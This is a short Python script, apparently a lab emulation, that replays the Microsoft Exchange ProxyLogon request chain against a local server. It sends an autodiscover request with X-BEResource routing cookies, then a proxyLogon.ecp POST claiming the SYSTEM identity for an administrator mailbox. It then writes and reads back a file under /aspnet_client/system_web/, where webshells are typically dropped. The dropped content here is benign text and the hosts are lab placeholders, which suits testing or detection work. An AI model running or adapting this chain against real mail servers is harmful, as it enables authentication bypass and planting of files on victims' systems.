# ruff: noqa
"""Same chain on urllib3's pool manager."""

import json
import sys

import urllib3

AGENT = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36"
ROOT = "http://127.0.0.1:%s" % (sys.argv[1] if len(sys.argv) > 1 else "8080")
NOTE = "/aspnet_client/system_web/readme_91453.txt"

pool = urllib3.PoolManager(timeout=urllib3.Timeout(total=10.0), retries=urllib3.Retry(total=5))


def browser():
    return {
        "User-Agent": AGENT,
        "x-requested-with": "XMLHttpRequest",
        "Accept": "*/*",
        "accept-language": "en-US,en;q=0.9",
        "connection": "close",
    }


h = browser()
h["cookie"] = (
    "X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522"
)
resp = pool.request(
    "GET",
    ROOT + "/autodiscover/autodiscover.json",
    fields={
        "Pad": "A" * 37,
        "Protocol": "Autodiscoverv1",
        "Email": "administrator@lab.invalid/mapi/nspi",
        "RequestId": "20200302-7720",
    },
    headers=h,
)
if resp.status < 500:
    resp = pool.request(
        "POST",
        ROOT + "/ecp/proxyLogon.ecp",
        body=json.dumps(
            {"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}
        ),
        headers={
            "user-agent": AGENT,
            "msexchlogonmailbox": "S-1-5-20",
            "content-type": "application/json",
            "X-BEResource": "localhost@lab.invalid/ecp/proxyLogon.ecp",
        },
    )
    ident = resp.data.decode().strip() if resp.status == 200 else "anonymous"
    lines = [f"note {i} of 3 for {ident}" for i in range(1, 4)]
    pool.request(
        "POST",
        ROOT + NOTE,
        body="\n".join(lines).encode(),
        headers={"user-agent": AGENT, "X-Note-Path": NOTE, "Content-Type": "text/plain"},
    )
    back = pool.request("GET", ROOT + NOTE, headers=browser())
    print(json.dumps({"read_back": len(back.data[:1024])}, indent=4))
